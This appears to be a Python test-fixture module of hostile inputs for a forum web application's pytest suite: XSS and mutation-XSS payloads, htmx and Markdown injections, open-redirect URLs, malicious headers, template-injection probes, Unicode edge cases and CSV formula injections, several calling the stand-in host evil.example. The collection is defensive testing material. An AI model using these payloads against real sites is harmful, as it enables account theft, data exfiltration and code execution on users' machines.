"""What hostile or unlucky people type, as tables for `pytest.mark.parametrize`.

Every script of the XSS corpus calls `alert`, which `tests.support.watch` reports, or asks for `evil.example`, which it
reports too. Odd characters are written as escapes: they cannot be seen, and must not be changed by an editor.
"""

from typing import Final

XSS: Final = (
    # scripts, written in the ways that fool a search for "<script>"
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT\t>",
    "<script/src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0csrc='https://evil.example/x.js'></script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "\ufeff<script>alert(1)</script>",
    # handlers on tags that fire alone
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img/src='x'/onerror='alert(1)'/>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert&lpar;1&rpar;>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p class=fade onanimationstart=alert(1)>x</p>",
    "<a href=# onmouseover=alert(1)>move here</a>",
    "<div contenteditable onbeforeinput=alert(1)>type here</div>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<p popover id=p onbeforetoggle=alert(1)>x</p><button popovertarget=p>open</button>",
    # SVG, MathML and other changes of parser: safe when read once, active when read again
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=//evil.example/x.js></script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1)>"
    "</svg>#x'></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    "<svg><title><style><img title='</style><img src=x onerror=alert(1)>'></style></title></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><mi><mglyph></mi><style><img src=x onerror=alert(1)></style></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    # text that one parser keeps as text and another does not
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'></xmp>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    # comments and declarations
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)?>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    # forms of ours that are no longer ours
    "</form><form action=//evil.example/><input name=password>",
    "<form id=f action=//evil.example/><form></form><button form=f>Continue</button></form>",
    "<button formaction=javascript:alert(1)>Continue</button>",
    "<input type=image src=//evil.example/x.png formaction=//evil.example/>",
    "<input type=hidden name=csrf_token value=stolen>",
    # DOM clobbering
    "<form id=document><input name=cookie></form>",
    "<img name=getElementById><a id=htmx><a id=htmx name=config href=javascript:alert(1)>",
    "<a id=main href=#>x</a><input id=main name=attributes>",
    # htmx
    "<p hx-get=//evil.example/ hx-trigger=load>x</p>",
    "<p data-hx-get=//evil.example/ data-hx-trigger=load>x</p>",
    "<p hx-on:click=alert(1)>x</p>",
    "<p hx-on--load=alert(1)>x</p>",
    "<p hx-trigger='load[alert(1)]' hx-get=/>x</p>",
    "<p hx-post=/en/sign-out hx-trigger=load hx-vals='js:{a: alert(1)}'>x</p>",
    "<p hx-ext=event-header hx-headers='javascript:{a: alert(1)}'>x</p>",
    "<p hx-swap-oob=true id=main>x</p>",
    "<p class=htmx-indicator hx-disinherit='*' hx-boost=true>x</p>",
    # addresses that are programs
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscr\nipt:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<a href='//evil.example/' target=_blank>Sign in again</a>",
    # frames, plug-ins, and what changes the whole page
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.svg>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>Sign in again</p>",
    "<table background=//evil.example/x.png><tr><td>x</table>",
    "<img src=//evil.example/seen.png>",
    "<img srcset='//evil.example/seen.png 1x'>",
    # Markdown
    "[x](javascript:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== )",
    "![x](//evil.example/seen.png)",
    '![x](x "onerror=alert(1)")',
    '[x](https://a.example "x\\" onmouseover=\\"alert(1)")',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```<img src=x onerror=alert(1)>\nx\n```",
)
"""Somebody's own words, in any text field: nothing of it may run, load, submit or move."""

REDIRECTS: Final = (
    "https://evil.example/",
    "//evil.example/",
    "///evil.example/",
    "/\\evil.example/",
    "\\\\evil.example/",
    "https:evil.example",
    "https:/evil.example",
    "/\t/evil.example/",
    "/\n/evil.example/",
    " //evil.example/",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "%2f%2fevil.example/",
    "https://forum.example@evil.example/",
    "/%0d%0aLocation:%20//evil.example/",
)
"""Values of `next`: all land on the default page."""

BAD_IDS: Final = (
    "0",
    "-1",
    "2147483648",
    "9223372036854775808",
    "1e9",
    "\uff11\uff12",  # full-width digits
    "\u0663",  # Arabic-Indic digit three
    "abc",
    "1 OR 1=1",
    "9" * 200,
)
"""Identifiers that exist nowhere: 404, never 500, on both engines."""

BAD_HEADERS: Final[tuple[tuple[str, str], ...]] = (
    ("Host", "evil.example"),
    ("X-Forwarded-Host", "evil.example"),
    ("X-Forwarded-For", "127.0.0.1, " * 200 + "x"),
    ("X-HTTP-Method-Override", "DELETE"),
    ("Accept-Language", "*;q=0, xx-yyyyyyyy"),
    ("Accept-Language", "fr;q=abc,en;q=1e400"),
    ("Accept-Language", "../../etc/passwd"),
    ("Accept", "text/html;q=nan"),
    ("Range", "bytes=9999999999-1,0-0,-0"),
    ("If-None-Match", '"' * 500),
    ("If-Modified-Since", "Thu, 99 Foo 99999 99:99:99 GMT"),
    ("Cookie", "; ".join(f"c{number}=1" for number in range(100))),
    ("Cookie", "forum=.eJ\xff\xfe; =; forum"),
    ("Referer", "https://evil.example/<script>alert(1)</script>"),
    ("User-Agent", "<script>alert(1)</script>"),
    ("Origin", "null"),
    ("HX-Request", "<b>true</b>"),
    ("HX-Current-URL", "javascript:alert(1)"),
    ("HX-Target", "main' onerror='alert(1)"),
    ("Content-Type", "multipart/form-data"),
    ("X-Long", "a" * 65_000),
)
"""Name and value: 4xx or ignored; the language falls back to French."""

UNICODE: Final[dict[str, tuple[str, ...]]] = {
    "H01": ("\x00", "Jean\x00Dupont"),
    "H02": ("a\x1b[31mb", "\x07", "a\x0bb", "a\x0cb", "a\x7fb", "a\x85b", "a\x9bb", "a\u2028b\u2029c"),
    "H03": ("\ud800", "a\udfffb"),
    "H04": ("%FF%FE", "%C3%28", "%ED%A0%80", "%C0%AF", "%F5%80%80%80"),
    "H05": ("\ufeffnom;courriel", "+ADw-script+AD4-", "\ufffe"),
    "H06": ("E\u0301lise", "\u00c9lise", "cafe\u0301", "caf\u00e9", "\ufb01n"),
    "H07": ("\u202efdp.exe", "a\u202ab\u202bc\u202dd", "\u2066x\u2067y\u2068z", "ab\u2069\u202c", "\u061cx"),
    "H08": ("\u200b", "\u00ad\u00ad", "\ufe0f", "\u3164", "\u115f", "\u2800", "\u00a0\u3000", "Jean\u200bne", "\ufeff"),
    "H09": ("\u0430ssociation", "P\u0430ris", "\u0391\u0392\u0395", "pa\u0443pal"),
    "H10": (
        "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
        "\U0001f1eb\U0001f1f7",
        "\U0001f44d\U0001f3fd",
        "\U00020bb7",
        "\U0001f600" * 50,
    ),
    "H11": ("Z" + "\u0335" * 500, "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a"),
}
"""By number of the list of hostile inputs. H04 is percent-encoded: put it in an address as it is."""

TEMPLATE_SYNTAX: Final = (
    "{{7*7}}",
    "{{ config }}",
    "{% for x in [1] %}{{ x }}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s %d %n",
    "%(name)s",
    "100 %",
    "{0} {name!r} {0.__class__}",
    "$name ${name}",
    "@(7*7)",
)
"""Shown as typed."""

CSV_FORMULAS: Final = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1"',
    " =1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    ';=1+1;"',
    'x"\n=1+1',
)
"""Prefixed with an apostrophe in exports, and quoted; a plain number stays a number."""
